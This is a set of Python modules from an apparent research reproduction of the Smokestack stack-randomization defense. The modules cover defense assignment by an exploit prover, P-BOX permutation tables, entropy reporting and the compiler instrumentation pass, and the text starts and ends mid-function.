            reason = (
                "tainted-if-unknown: unresolved memory write in this frame"
            )
        else:
            clean_labels.append(label)
            continue
        unclean_indices.add(index)
        unclean_labels.append(label)
        reasons[label] = reason

    return FramePartition(
        function=function.name,
        unclean=tuple(unclean_labels),
        clean=tuple(clean_labels),
        unclean_indices=frozenset(unclean_indices),
        reasons=reasons,
    )


def partition_module(module: Module) -> Dict[str, FramePartition]:
    """Partition every function, with interprocedural taint seeding."""
    param_map = attacker_param_indices(module)
    return {
        name: partition_function(
            function, module, tainted_params=param_map.get(name, ())
        )
        for name, function in module.functions.items()
    }


def machine_partition(
    partitions: Dict[str, FramePartition],
) -> Dict[str, FrozenSet[int]]:
    """The ``Machine(clean_partition=...)`` view: only split frames."""
    return {
        name: part.unclean_indices
        for name, part in partitions.items()
        if part.unclean_indices
    }
