"""Prover-driven per-function defense assignment.

PR 4's selective hardening answered "which functions need Smokestack at
all"; this pass generalizes the question to the full registry: *for each
function, what is the cheapest registered defense under which every
auto-derived corruption goal in that function's frame is
PROVABLY_ROBUST?*  The exploit prover (:mod:`repro.analysis.exploit`)
supplies the verdicts; this module only orders defenses by cost and
walks the ladder.

The cost order is the deployment story, cheapest first:

==============  ====================================================
defense         runtime cost intuition
==============  ====================================================
none            zero
shadowstack     one shadow push/pop per call (metadata isolation)
canary          one cookie check per return
aslr            one load-time base draw, no per-call work
padding         dead pad bytes per frame (cache pressure)
cleanstack      second stack pointer + load-time region draw
static-permute  compile-time only, but forfeits layout debuggability
smokestack      per-invocation permutation draw (the paper's price)
==============  ====================================================

Soundness contract: a function is assigned a defense only when **all**
its goals are PROVABLY_ROBUST under it.  UNKNOWN is treated exactly
like PROVABLY_EXPLOITABLE — the ladder keeps climbing — and a function
whose goals never all turn ROBUST falls back to ``smokestack``, the
strongest scheme in the registry.  The fallback is recorded as such:
its verdicts may still be UNKNOWN (brute-force-ably exploitable), which
is the honest residue the tournament's dynamic campaign measures.
"""

from __future__ import annotations

from typing import Dict, List, NamedTuple, Optional, Sequence, Tuple

from repro.analysis.exploit import (
    ROBUST,
    ExploitProver,
    ExploitVerdict,
    default_goals,
)
from repro.analysis.reach import MODELED_DEFENSES
from repro.synth.facts import ProgramFacts
from repro.synth.goals import Goal

#: Registry defenses ordered by deployment cost, cheapest first.  Only
#: entries that are also prover-modeled participate in assignment; the
#: filter keeps this table valid even if the registry grows a defense
#: before its layout family lands.
DEFENSE_COST_RANK: Tuple[str, ...] = (
    "none",
    "shadowstack",
    "canary",
    "aslr",
    "padding",
    "cleanstack",
    "static-permute",
    "smokestack",
)

#: The ladder's terminal fallback when no rung proves every goal ROBUST.
FALLBACK_DEFENSE = "smokestack"


class DefenseAssignment(NamedTuple):
    """The chosen defense for one function, with its supporting verdicts."""

    function: str
    defense: str
    #: every (goal, chosen-defense) verdict backing the choice; empty
    #: when the function exposes no goals at all
    verdicts: Tuple[ExploitVerdict, ...]
    reason: str

    @property
    def proven(self) -> bool:
        """True when every backing verdict is PROVABLY_ROBUST."""
        return bool(self.verdicts) and all(
            verdict.verdict == ROBUST for verdict in self.verdicts
        )

    def describe(self) -> str:
        return f"{self.function}: {self.defense} ({self.reason})"


def assign_defenses(
    facts: ProgramFacts,
    *,
    samples: int = 16,
    seed: int = 0,
    rank: Sequence[str] = DEFENSE_COST_RANK,
    goal_limit: int = 12,
    prover: Optional[ExploitProver] = None,
) -> List[DefenseAssignment]:
    """Cheapest-ROBUST defense per function, smokestack fallback.

    Goals come from :func:`default_goals` and are grouped by the frame
    they corrupt; a function with no goals (no word slots near any
    channel) needs no defense and is assigned ``none`` outright.
    """
    ladder = [name for name in rank if name in MODELED_DEFENSES]
    if not ladder:
        raise ValueError("cost rank contains no modeled defense")
    if prover is None:
        prover = ExploitProver(facts, samples=samples, seed=seed)
    by_function: Dict[str, List[Goal]] = {}
    for goal in default_goals(facts, limit=goal_limit):
        by_function.setdefault(goal.function, []).append(goal)

    assignments: List[DefenseAssignment] = []
    for function in facts.functions():
        goals = by_function.get(function.name, [])
        if not goals:
            assignments.append(
                DefenseAssignment(
                    function.name,
                    "none",
                    (),
                    "no corruption goals in this frame",
                )
            )
            continue
        chosen: Optional[DefenseAssignment] = None
        for defense in ladder:
            verdicts = tuple(prover.prove(goal, defense) for goal in goals)
            if all(verdict.verdict == ROBUST for verdict in verdicts):
                chosen = DefenseAssignment(
                    function.name,
                    defense,
                    verdicts,
                    f"all {len(verdicts)} goal(s) PROVABLY_ROBUST",
                )
                break
        if chosen is None:
            verdicts = tuple(
                prover.prove(goal, FALLBACK_DEFENSE) for goal in goals
            )
            residue = sum(
                1 for verdict in verdicts if verdict.verdict != ROBUST
            )
            chosen = DefenseAssignment(
                function.name,
                FALLBACK_DEFENSE,
                verdicts,
                f"fallback: {residue} goal(s) not proven ROBUST under any "
                "cheaper defense",
            )
        assignments.append(chosen)
    return assignments


def assignment_summary(
    assignments: Sequence[DefenseAssignment],
) -> Dict[str, object]:
    """JSON-ready digest: per-function choices + aggregate facts."""
    per_function = {
        assignment.function: {
            "defense": assignment.defense,
            "proven": assignment.proven,
            "goals": len(assignment.verdicts),
            "reason": assignment.reason,
        }
        for assignment in assignments
    }
    cheapest_rank = {name: index for index, name in enumerate(DEFENSE_COST_RANK)}
    costliest = max(
        (assignment.defense for assignment in assignments),
        key=lambda name: cheapest_rank.get(name, len(cheapest_rank)),
        default="none",
    )
    return {
        "functions": per_function,
        "costliest_assigned": costliest,
        "all_proven": all(
            assignment.proven or not assignment.verdicts
            for assignment in assignments
        ),
        "cheaper_than_smokestack": all(
            assignment.defense != FALLBACK_DEFENSE
            for assignment in assignments
        ),
    }
