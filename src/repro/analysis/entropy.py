"""Per-function randomization entropy reporting.

Quantifies what an attacker must guess per invocation of each hardened
function: the number of distinct layouts in its P-BOX table (log2 = bits)
plus the frame statistics that drive it — the analysis behind the paper's
§III-D observation that allocation count and alignment padding are the
entropy sources.
"""

from __future__ import annotations

from typing import Dict, List, NamedTuple

from repro.core.pipeline import HardenedProgram


class FunctionEntropy(NamedTuple):
    """Entropy record for one hardened function."""

    function: str
    slots: int
    rows: int
    entropy_bits: float
    frame_bytes: int
    shared_table: bool


def entropy_report(hardened: HardenedProgram) -> List[FunctionEntropy]:
    """Entropy records for every instrumented function, worst-first."""
    records = []
    for name, entry in hardened.pbox.entries.items():
        table = entry.table
        records.append(
            FunctionEntropy(
                function=name,
                slots=table.slot_count,
                rows=table.row_count,
                entropy_bits=table.permutations.entropy_bits(),
                frame_bytes=entry.total_size,
                shared_table=entry.shared,
            )
        )
    records.sort(key=lambda r: r.entropy_bits)
    return records


def render_entropy_report(hardened: HardenedProgram) -> str:
    """Human-readable entropy table (weakest function first)."""
    records = entropy_report(hardened)
    lines = [
        "per-invocation layout entropy (weakest functions first)",
        f"{'function':<24}{'slots':>6}{'rows':>7}{'bits':>7}{'frame':>8}  shared",
    ]
    for record in records:
        lines.append(
            f"{record.function:<24}{record.slots:>6}{record.rows:>7}"
            f"{record.entropy_bits:>7.1f}{record.frame_bytes:>7}B"
            f"  {'yes' if record.shared_table else 'no'}"
        )
    if records:
        weakest = records[0]
        lines.append(
            f"weakest link: '{weakest.function}' at "
            f"{weakest.entropy_bits:.1f} bits/invocation"
        )
    return "\n".join(lines)


def minimum_entropy_bits(hardened: HardenedProgram) -> float:
    """The weakest instrumented function's per-invocation entropy."""
    records = entropy_report(hardened)
    if not records:
        return 0.0
    return records[0].entropy_bits
