"""The P-BOX: read-only permutation tables shared across functions.

The P-BOX (paper §III-C/E) holds, for every *combination* of stack
allocations appearing in the program, the table of precomputed layouts.
It is embedded in the read-only data section of the hardened binary and
indexed at each function invocation by a freshly generated random number.

Sharing machinery (§III-E):

* combinations are canonicalized (allocations sorted descending by
  (size, align)), so ``f1(int, double)`` and ``f2(double, int)`` resolve
  to the same table ("Rearranging Stack Allocations"),
* with round-up sharing, a combination may piggyback on the table of a
  combination that has one extra, smallest allocation, trading frame
  padding for P-BOX bytes ("Rounding up Allocations").

Each function receives a :class:`PBoxEntry` recording which table it uses
and how its allocas (in program order) map onto the table's canonical
columns.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Sequence, Tuple

from repro.core.allocations import StackAllocation
from repro.core.config import SmokestackConfig
from repro.core.permutation import (
    PermutationTable,
    generate_table,
    round_rows_to_power_of_two,
)
from repro.ir.values import GlobalVariable
from repro.minic import types as ct

#: Canonical combination: tuple of (size, align), sorted descending.
Combo = Tuple[Tuple[int, int], ...]


def canonicalize(
    allocations: Sequence[StackAllocation],
) -> Tuple[Combo, List[int]]:
    """Sort allocations into canonical order.

    Returns ``(combo, column_map)`` where ``column_map[i]`` is the
    canonical column of the function's i-th allocation.  The descending
    sort puts the *smallest* shape last, which is what round-up sharing
    relies on (the donor combination extends the borrower by one trailing
    smallest element).
    """
    order = sorted(
        range(len(allocations)),
        key=lambda i: (-allocations[i].size, -allocations[i].align, i),
    )
    combo = tuple(allocations[i].shape() for i in order)
    column_map = [0] * len(allocations)
    for column, original_index in enumerate(order):
        column_map[original_index] = column
    return combo, column_map


class PBoxTable:
    """One serialized table: rows of u32 frame offsets, one per column."""

    def __init__(self, table_id: int, combo: Combo, permutations: PermutationTable,
                 pow2: bool):
        self.table_id = table_id
        self.combo = combo
        self.permutations = permutations
        rows = permutations.rows
        if pow2:
            rows = round_rows_to_power_of_two(rows)
        self.rows: List[Tuple[int, ...]] = rows
        self.pow2 = pow2
        self.global_name = f"__ss_pbox_{table_id}"

    @property
    def row_count(self) -> int:
        return len(self.rows)

    @property
    def slot_count(self) -> int:
        return len(self.combo)

    @property
    def total_size(self) -> int:
        return self.permutations.total_size

    def size_bytes(self) -> int:
        return self.row_count * self.slot_count * 4

    def serialize(self) -> bytes:
        out = bytearray()
        for row in self.rows:
            for offset in row:
                out.extend(offset.to_bytes(4, "little"))
        return bytes(out)

    def as_global(self) -> GlobalVariable:
        element_count = self.row_count * self.slot_count
        return GlobalVariable(
            self.global_name,
            ct.ArrayType(ct.UINT, max(1, element_count)),
            self.serialize(),
            readonly=True,
            align=4,
        )

    def __repr__(self) -> str:
        return (
            f"PBoxTable(#{self.table_id}, {self.slot_count} slots x "
            f"{self.row_count} rows, {self.size_bytes()} bytes)"
        )


class PBoxEntry:
    """Binding of one function to its table."""

    def __init__(
        self,
        function_name: str,
        table: PBoxTable,
        column_map: List[int],
        shared: bool,
        rounded_up: bool,
    ):
        self.function_name = function_name
        self.table = table
        self.column_map = column_map
        self.shared = shared
        self.rounded_up = rounded_up

    @property
    def total_size(self) -> int:
        return self.table.total_size

    def __repr__(self) -> str:
        flags = []
        if self.shared:
            flags.append("shared")
        if self.rounded_up:
            flags.append("rounded-up")
        suffix = f" [{', '.join(flags)}]" if flags else ""
        return f"PBoxEntry({self.function_name!r} -> {self.table.global_name}{suffix})"


class PBox:
    """The whole program's permutation box."""

    def __init__(self, config: Optional[SmokestackConfig] = None):
        self.config = config or SmokestackConfig()
        self.config.validate()
        self.tables: List[PBoxTable] = []
        self.entries: Dict[str, PBoxEntry] = {}
        self._by_combo: Dict[Combo, PBoxTable] = {}

    # -- construction ---------------------------------------------------------------

    def add_function(
        self, function_name: str, allocations: Sequence[StackAllocation]
    ) -> PBoxEntry:
        """Assign (or create) a table for a function's allocations."""
        if function_name in self.entries:
            raise ValueError(f"function '{function_name}' already in P-BOX")
        combo, column_map = canonicalize(allocations)
        if not self.config.share_tables:
            # Without sharing, every function gets a private table, keyed
            # uniquely so identical combos do NOT coalesce.
            table = self._create_table(combo, unique_tag=function_name)
            entry = PBoxEntry(function_name, table, column_map, False, False)
            self.entries[function_name] = entry
            return entry
        table = self._by_combo.get(combo)
        shared = table is not None
        rounded_up = False
        if table is None and self.config.round_up_sharing:
            donor = self._find_round_up_donor(combo)
            if donor is not None:
                table = donor
                shared = True
                rounded_up = True
        if table is None:
            table = self._create_table(combo)
            self._by_combo[combo] = table
        entry = PBoxEntry(function_name, table, column_map, shared, rounded_up)
        self.entries[function_name] = entry
        return entry

    def _find_round_up_donor(self, combo: Combo) -> Optional[PBoxTable]:
        """A table whose combo is ``combo`` plus one extra trailing element.

        Canonical order is descending, so the extra element of the donor is
        its smallest allocation; the borrower's columns 0..n-1 then line up
        one-to-one with the donor's.
        """
        for candidate_combo, table in self._by_combo.items():
            if len(candidate_combo) == len(combo) + 1 and candidate_combo[:-1] == combo:
                return table
        return None

    def _create_table(self, combo: Combo, unique_tag: str = "") -> PBoxTable:
        allocations = [
            StackAllocation(f"slot{i}", size, align, index=i)
            for i, (size, align) in enumerate(combo)
        ]
        seed = self.config.compile_seed ^ (hash(unique_tag) & 0xFFFF)
        permutations = generate_table(
            allocations, max_rows=self.config.max_table_rows, seed=seed
        )
        table = PBoxTable(
            len(self.tables), combo, permutations, pow2=self.config.pow2_tables
        )
        self.tables.append(table)
        return table

    # -- accounting --------------------------------------------------------------------

    def size_bytes(self) -> int:
        """Total read-only bytes the P-BOX adds to the binary image."""
        return sum(table.size_bytes() for table in self.tables)

    def entry_for(self, function_name: str) -> PBoxEntry:
        return self.entries[function_name]

    def globals(self) -> List[GlobalVariable]:
        return [table.as_global() for table in self.tables]

    def stats(self) -> Dict[str, object]:
        return {
            "tables": len(self.tables),
            "functions": len(self.entries),
            "bytes": self.size_bytes(),
            "shared_entries": sum(1 for e in self.entries.values() if e.shared),
            "rounded_up_entries": sum(
                1 for e in self.entries.values() if e.rounded_up
            ),
        }

    def __repr__(self) -> str:
        return (
            f"PBox({len(self.tables)} tables, {len(self.entries)} functions, "
            f"{self.size_bytes()} bytes)"
        )
