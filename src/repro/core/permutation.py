"""The permutation engine — paper Algorithm 1.

Given the stack allocations of a function (size + alignment each), this
module generates the table of all possible frame layouts: row *p* holds,
for each allocation, its byte index from the start of the unified stack
frame under the *p*-th lexical-order permutation, with alignment padding
inserted exactly as the ALIGN procedure prescribes.  The inter-object
padding that alignment forces under different orders is itself a source
of entropy, as the paper notes (§III-D).

Two engineering policies around the paper's algorithm:

* **Row shuffle** — after generation, rows are permuted (with a
  compile-time seed) "to avoid the lexical correlation between any two
  consecutive rows" (§III-D).
* **Factorial cap** — ``n!`` explodes past a handful of allocations; the
  paper's SPEC builds clearly bound the table size.  When ``n!`` exceeds
  ``max_rows`` we emit ``max_rows`` *distinct* permutations sampled
  uniformly (seeded, Fisher-Yates), preserving per-row layout computation
  verbatim.  The trade-off is benchmarked by the ablation suite.
"""

from __future__ import annotations

import math
import random
from typing import List, Sequence, Tuple

from repro.core.allocations import StackAllocation

DEFAULT_MAX_ROWS = 1024


def align_index(index: int, alignment: int) -> int:
    """ALIGN from Algorithm 1: round ``index`` up to ``alignment``."""
    if index % alignment == 0:
        return index
    return (index // alignment + 1) * alignment


def nth_lexical_permutation(n: int, p_index: int) -> List[int]:
    """The ``p_index``-th permutation of ``range(n)`` in lexical order.

    This is the factorial-number-system decoding the inner loop of
    Algorithm 1 performs with ``temp / curr_fact`` and ``temp % curr_fact``.
    """
    if n < 0:
        raise ValueError("n must be non-negative")
    remaining = list(range(n))
    temp = p_index
    order: List[int] = []
    for position in range(n):
        fact = math.factorial(n - position - 1)
        element = temp // fact
        temp = temp % fact
        order.append(remaining.pop(element))
    return order


def layout_for_order(
    allocations: Sequence[StackAllocation], order: Sequence[int]
) -> Tuple[List[int], int]:
    """Compute per-allocation frame indices for one placement order.

    ``order[k]`` is the allocation placed k-th from the frame start.
    Returns ``(indexes, total)`` where ``indexes[i]`` is the byte offset of
    allocation ``i`` and ``total`` is the frame bytes this order needs.
    """
    indexes = [0] * len(allocations)
    cursor = 0
    for allocation_id in order:
        allocation = allocations[allocation_id]
        cursor = align_index(cursor, allocation.align)
        indexes[allocation_id] = cursor
        cursor += allocation.size
    return indexes, cursor


class PermutationTable:
    """All generated layouts for one combination of allocations.

    ``rows[r][i]`` is the frame offset of allocation ``i`` in layout ``r``.
    ``total_size`` is the maximum frame size over all rows — the single
    static allocation size the instrumented function reserves, so any row
    fits.
    """

    def __init__(
        self,
        shapes: Tuple[Tuple[int, int], ...],
        rows: List[Tuple[int, ...]],
        total_size: int,
        exhaustive: bool,
    ):
        self.shapes = shapes
        self.rows = rows
        self.total_size = total_size
        self.exhaustive = exhaustive

    @property
    def row_count(self) -> int:
        return len(self.rows)

    @property
    def slot_count(self) -> int:
        return len(self.shapes)

    def entropy_bits(self) -> float:
        """log2 of the number of distinct layouts an attacker must guess."""
        distinct = len(set(self.rows))
        return math.log2(distinct) if distinct else 0.0

    def __repr__(self) -> str:
        return (
            f"PermutationTable({self.slot_count} slots, {self.row_count} rows, "
            f"total {self.total_size}B)"
        )


def generate_table(
    allocations: Sequence[StackAllocation],
    max_rows: int = DEFAULT_MAX_ROWS,
    seed: int = 0,
) -> PermutationTable:
    """PERMUTE from Algorithm 1 (plus row shuffle and the factorial cap)."""
    n = len(allocations)
    if n == 0:
        return PermutationTable((), [], 0, exhaustive=True)
    if max_rows < 1:
        raise ValueError("max_rows must be at least 1")
    total_permutations = math.factorial(n)
    rng = random.Random((seed << 16) ^ n ^ hash(tuple(a.shape() for a in allocations)))
    rows: List[Tuple[int, ...]] = []
    total_size = 0
    if total_permutations <= max_rows:
        for p_index in range(total_permutations):
            order = nth_lexical_permutation(n, p_index)
            indexes, frame_size = layout_for_order(allocations, order)
            rows.append(tuple(indexes))
            total_size = max(total_size, frame_size)
        exhaustive = True
        # Shuffle rows to break lexical adjacency between consecutive rows.
        rng.shuffle(rows)
    else:
        seen = set()
        while len(rows) < max_rows:
            order = list(range(n))
            rng.shuffle(order)
            key = tuple(order)
            if key in seen:
                continue
            seen.add(key)
            indexes, frame_size = layout_for_order(allocations, order)
            rows.append(tuple(indexes))
            total_size = max(total_size, frame_size)
        exhaustive = False
    shapes = tuple(a.shape() for a in allocations)
    return PermutationTable(shapes, rows, total_size, exhaustive)


def round_rows_to_power_of_two(rows: List[Tuple[int, ...]]) -> List[Tuple[int, ...]]:
    """P-BOX power-of-2 optimization (§III-E).

    Duplicates rows (wrap-around) until the count is the next power of
    two, so index selection becomes ``rand & (rows - 1)`` instead of a
    modulo — the optimization's point is replacing the division in the
    prologue.
    """
    count = len(rows)
    if count == 0:
        return list(rows)
    target = 1
    while target < count:
        target <<= 1
    extended = list(rows)
    cursor = 0
    while len(extended) < target:
        extended.append(rows[cursor % count])
        cursor += 1
    return extended
