"""Discovery of stack allocations (paper §III-D, first analysis pass).

For every function this pass gathers the static stack objects — their
source names, types, sizes and alignment requirements — producing the
:class:`FrameDescriptor` the permutation engine and the P-BOX builder
consume.  Variable-length allocations are listed separately: their
randomization is deferred to runtime (a random dummy allocation precedes
each, §III-D.1).
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.ir.instructions import Alloca
from repro.ir.module import Function, Module
from repro.minic import types as ct


class StackAllocation:
    """One permutable stack object: size + alignment (+ provenance)."""

    __slots__ = ("name", "size", "align", "alloca", "index")

    def __init__(
        self,
        name: str,
        size: int,
        align: int,
        alloca: Optional[Alloca] = None,
        index: int = 0,
    ):
        if size <= 0:
            raise ValueError(f"allocation '{name}' has non-positive size {size}")
        if align <= 0 or (align & (align - 1)) != 0:
            raise ValueError(
                f"allocation '{name}' has bad alignment {align} (must be a "
                "positive power of two)"
            )
        self.name = name
        self.size = size
        self.align = align
        self.alloca = alloca
        self.index = index

    def shape(self) -> Tuple[int, int]:
        """(size, align) — the identity used for P-BOX table sharing."""
        return (self.size, self.align)

    def __repr__(self) -> str:
        return f"StackAllocation({self.name!r}, size={self.size}, align={self.align})"


class FrameDescriptor:
    """Everything Smokestack needs to know about one function's frame."""

    def __init__(
        self,
        function_name: str,
        allocations: List[StackAllocation],
        vla_allocas: List[Alloca],
    ):
        self.function_name = function_name
        self.allocations = allocations
        self.vla_allocas = vla_allocas

    @property
    def count(self) -> int:
        return len(self.allocations)

    def total_unpermuted_size(self) -> int:
        """Frame bytes if laid out in declaration order (no randomization)."""
        offset = 0
        for allocation in self.allocations:
            offset = ct.align_up(offset, allocation.align)
            offset += allocation.size
        return offset

    def shapes(self) -> Tuple[Tuple[int, int], ...]:
        return tuple(a.shape() for a in self.allocations)

    def __repr__(self) -> str:
        return (
            f"FrameDescriptor({self.function_name!r}, "
            f"{self.count} allocations, {len(self.vla_allocas)} VLAs)"
        )


def discover_function(function: Function) -> FrameDescriptor:
    """Collect the frame descriptor for one function."""
    allocations: List[StackAllocation] = []
    vla_allocas: List[Alloca] = []
    for alloca in function.allocas():
        if alloca.is_static():
            index = len(allocations)
            allocations.append(
                StackAllocation(
                    alloca.var_name or f"tmp{index}",
                    alloca.static_size(),
                    alloca.align,
                    alloca=alloca,
                    index=index,
                )
            )
        else:
            vla_allocas.append(alloca)
    return FrameDescriptor(function.name, allocations, vla_allocas)


def discover_module(module: Module) -> List[FrameDescriptor]:
    """Frame descriptors for every function in the module, in order."""
    return [discover_function(fn) for fn in module.functions.values()]
