"""Function identifiers for Smokestack's tamper checks (paper §III-D.2).

Each instrumented function gets a unique identifier.  The prologue stores
``identifier XOR key`` into a slot of the randomized frame; the epilogue
XORs the slot with the same key and compares against the identifier,
aborting on mismatch.  The key is the invocation's random number — an SSA
value, i.e. register-resident, outside the attacker's reach per the
threat model — so an attacker who overwrites the slot (e.g. with a spray
while hunting for a relocated buffer) cannot recompute a passing value.

The paper derives identifiers at load time; the reproduction uses a
stable 63-bit hash of the function name, which is equivalent for the
simulation (unique per function, unpredictable padding of the frame).
"""

from __future__ import annotations

import hashlib

_MASK_63 = (1 << 63) - 1


def function_identifier(function_name: str) -> int:
    """Stable 63-bit identifier for ``function_name``."""
    digest = hashlib.sha256(b"smokestack-fnid:" + function_name.encode("utf-8"))
    return int.from_bytes(digest.digest()[:8], "little") & _MASK_63
