"""The Smokestack instrumentation pass (paper §III-D.1/2, §IV-B).

For every function with automatic variables the pass:

1. inserts a single *unified* stack allocation sized for the worst-case
   permutation of the function's objects,
2. inserts a call to the randomness runtime (``__ss_rand``) and selects a
   row of the function's P-BOX table with it (mask when the table was
   rounded to a power of two, modulo otherwise),
3. replaces every original ``alloca`` with a GEP slice into the unified
   allocation at the offset the chosen row dictates,
4. stores the XOR-masked function identifier into its own permuted slot
   and re-checks it before every return (``__ss_fail`` aborts on
   mismatch),
5. precedes every variable-length allocation with a random-sized dummy
   allocation so VLAs are randomized too.

The pass mutates the module in place and records what it did in each
function's ``metadata['smokestack']``.
"""

from __future__ import annotations

from typing import Dict, List, Optional

from repro.core.allocations import StackAllocation, discover_function
from repro.core.config import SmokestackConfig
from repro.core.fnid import function_identifier
from repro.core.pbox import PBox, PBoxEntry
from repro.errors import IRError
from repro.ir.builder import IRBuilder
from repro.ir.instructions import Alloca, BinOp, Call, Instruction, Ret
from repro.ir.module import BasicBlock, Function, Module
from repro.ir.values import Constant, GlobalVariable, Value
from repro.minic import types as ct
from repro.rng.sources import PSEUDO_STATE_GLOBAL

#: VLA dummy padding is rand & VLA_PAD_MASK bytes (0..248, 8-aligned).
VLA_PAD_MASK = 0xF8

#: Name of the fnid pseudo-allocation appended to each permuted frame.
FNID_SLOT_NAME = "__ss_fnid"


class InstrumentationRecord:
    """What the pass did to one function (stored in function metadata)."""

    def __init__(
        self,
        function_name: str,
        entry: Optional[PBoxEntry],
        identifier: Optional[int],
        frame_size: int,
        permuted_slots: int,
        vla_sites: int,
    ):
        self.function_name = function_name
        self.entry = entry
        self.identifier = identifier
        self.frame_size = frame_size
        self.permuted_slots = permuted_slots
        self.vla_sites = vla_sites

    def __repr__(self) -> str:
        return (
            f"InstrumentationRecord({self.function_name!r}, "
            f"{self.permuted_slots} slots, frame {self.frame_size}B, "
            f"{self.vla_sites} VLAs)"
        )


def instrument_module(
    module: Module, config: Optional[SmokestackConfig] = None
) -> PBox:
    """Apply Smokestack to every eligible function of ``module`` in place.

    Returns the program's :class:`PBox`; its tables are added to the
    module as read-only globals, and the memory-backed PRNG state global
    (used only by the 'pseudo' scheme) is added as writable data.
    """
    config = config or SmokestackConfig()
    config.validate()
    pbox = PBox(config)
    skipped: List[str] = []
    proven = frozenset()
    if config.selective:
        # Imported lazily: analysis builds on core, not the other way
        # around, and only selective mode needs the prover.
        from repro.analysis.safety import analyze_module_safety

        report = analyze_module_safety(module)
        proven = frozenset(report.proven_functions())
    for function in module.functions.values():
        if function.name in proven:
            skipped.append(function.name)
            continue
        _instrument_function(function, module, pbox, config)
    # Table globals were added on demand as instructions referenced them;
    # nothing further to install here.
    if PSEUDO_STATE_GLOBAL not in module.globals:
        module.add_global(GlobalVariable(PSEUDO_STATE_GLOBAL, ct.ULONG))
    module.metadata["smokestack"] = {
        "config": config,
        "pbox": pbox,
        "selective_skipped": skipped,
    }
    # In-place rewrite: machines already bound to this module must drop
    # their identity-keyed caches (alloca layouts, predecoded blocks).
    module.bump_version()
    return pbox


def is_instrumented(module: Module) -> bool:
    return "smokestack" in module.metadata


def _instrument_function(
    function: Function, module: Module, pbox: PBox, config: SmokestackConfig
) -> None:
    descriptor = discover_function(function)
    has_static = descriptor.count > 0
    has_vla = bool(descriptor.vla_allocas)
    if not has_static and not has_vla:
        return  # no automatic variables: nothing to randomize (paper §IV-B)

    allocations = list(descriptor.allocations)
    use_fnid = config.fnid_checks
    if use_fnid:
        allocations.append(
            StackAllocation(FNID_SLOT_NAME, 8, 8, index=len(allocations))
        )

    entry: Optional[PBoxEntry] = None
    replacement: Dict[Alloca, Value] = {}
    identifier: Optional[int] = None
    rand_value: Optional[Value] = None
    fnid_ptr: Optional[Value] = None

    if allocations:
        entry = pbox.add_function(function.name, allocations)
        table = entry.table
        pbox_global = _table_global(module, pbox, table.global_name)

        old_entry = function.entry
        prologue = function.new_block("ss.prologue")
        function.blocks.remove(prologue)
        function.blocks.insert(0, prologue)
        builder = IRBuilder(function, prologue)

        frame = builder.alloca(
            ct.ArrayType(ct.CHAR, max(1, entry.total_size)),
            align=16,
            var_name="__ss_frame",
        )
        rand_value = builder.call("__ss_rand", [], ct.LONG)
        rows = table.row_count
        if table.pow2 and rows & (rows - 1) == 0:
            row = builder.and_(rand_value, Constant(ct.LONG, rows - 1))
        else:
            row = builder.binop("urem", rand_value, Constant(ct.LONG, rows))
        stride = Constant(ct.LONG, table.slot_count)
        row_base = builder.mul(row, stride)

        slices: List[Value] = []
        for index, allocation in enumerate(allocations):
            column = entry.column_map[index]
            flat = builder.add(row_base, Constant(ct.LONG, column))
            cell_ptr = builder.elem_ptr(pbox_global, flat)
            offset_u32 = builder.load(cell_ptr)
            offset = builder.convert(offset_u32, ct.LONG)
            slice_char = builder.elem_ptr(frame, offset)
            slices.append(slice_char)

        for index, allocation in enumerate(descriptor.allocations):
            original = allocation.alloca
            assert original is not None
            typed = builder.convert(
                slices[index], ct.PointerType(original.allocated_type)
            )
            typed.name = function.next_value_name(original.var_name or "slice")
            replacement[original] = typed

        if use_fnid:
            identifier = function_identifier(function.name)
            fnid_ptr = builder.convert(slices[-1], ct.PointerType(ct.LONG))
            masked = builder.xor(rand_value, Constant(ct.LONG, identifier))
            builder.store(masked, fnid_ptr)

        builder.br(old_entry)
        for inst in prologue.instructions:
            inst.synthetic = True  # cost model: instrumentation discount

        _replace_alloca_uses(function, replacement, skip_block=prologue)
        _remove_static_allocas(function, replacement)

    if has_vla and config.vla_padding:
        _pad_vlas(function, descriptor.vla_allocas)

    if use_fnid and fnid_ptr is not None and rand_value is not None:
        _insert_epilogue_checks(function, fnid_ptr, rand_value, identifier)

    function.metadata["smokestack"] = InstrumentationRecord(
        function.name,
        entry,
        identifier,
        entry.total_size if entry else 0,
        len(allocations),
        len(descriptor.vla_allocas),
    )


def _table_global(module: Module, pbox: PBox, global_name: str) -> GlobalVariable:
    """The P-BOX table global (added to the module at the end of the pass,
    but instructions need the GlobalVariable object now)."""
    if global_name in module.globals:
        return module.globals[global_name]
    for table in pbox.tables:
        if table.global_name == global_name:
            variable = table.as_global()
            module.add_global(variable)
            return variable
    raise IRError(f"P-BOX has no table global '{global_name}'")


def _replace_alloca_uses(
    function: Function, replacement: Dict[Alloca, Value], skip_block: BasicBlock
) -> None:
    for block in function.blocks:
        if block is skip_block:
            continue
        for inst in block.instructions:
            for position, operand in enumerate(inst.operands):
                if isinstance(operand, Alloca) and operand in replacement:
                    inst.operands[position] = replacement[operand]


def _remove_static_allocas(
    function: Function, replacement: Dict[Alloca, Value]
) -> None:
    for block in function.blocks:
        block.instructions = [
            inst
            for inst in block.instructions
            if not (isinstance(inst, Alloca) and inst in replacement)
        ]


def _pad_vlas(function: Function, vla_allocas: List[Alloca]) -> None:
    """Insert ``__ss_rand``-sized dummy allocas before each VLA (§III-D.1)."""
    targets = set(vla_allocas)
    for block in function.blocks:
        if not targets.intersection(block.instructions):
            continue
        rebuilt: List[Instruction] = []
        for inst in block.instructions:
            if isinstance(inst, Alloca) and inst in targets:
                rand_call = Call("__ss_rand", [], ct.LONG)
                rand_call.name = function.next_value_name("vlarand")
                mask = Constant(ct.LONG, VLA_PAD_MASK)
                pad = BinOp("and", rand_call, mask)
                pad.name = function.next_value_name("vlapad")
                dummy = Alloca(
                    ct.CHAR, count=pad, align=16, var_name="__ss_vlapad"
                )
                dummy.name = function.next_value_name("vladummy")
                for new_inst in (rand_call, pad, dummy):
                    new_inst.block = block
                    new_inst.synthetic = True
                    rebuilt.append(new_inst)
            rebuilt.append(inst)
        block.instructions = rebuilt


def _insert_epilogue_checks(
    function: Function,
    fnid_ptr: Value,
    rand_value: Value,
    identifier: int,
) -> None:
    """Rewrite every return: load/unmask/compare the identifier first."""
    fail_block = function.new_block("ss.fail")
    fail_builder = IRBuilder(function, fail_block)
    fail_builder.call("__ss_fail", [Constant(ct.LONG, identifier)], ct.VOID)
    fail_builder.unreachable()
    for inst in fail_block.instructions:
        inst.synthetic = True

